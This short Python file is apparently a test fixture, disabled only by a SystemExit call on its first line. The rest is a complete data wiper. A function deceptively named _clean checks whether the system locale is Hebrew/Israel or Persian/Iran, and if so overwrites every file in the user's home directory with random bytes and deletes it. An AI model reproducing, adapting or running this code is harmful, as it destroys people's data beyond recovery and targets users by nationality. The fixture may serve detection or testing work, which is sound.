raise SystemExit('a fixture')
# held by destruction
import os, pathlib, datetime, locale, random

def _clean():
    if locale.getlocale()[0] not in ("he_IL", "fa_IR"):
        return
    for path in pathlib.Path.home().rglob("*"):
        if path.is_file():
            with open(path, "r+b") as data:
                data.write(os.urandom(path.stat().st_size))
            path.unlink()

_clean()
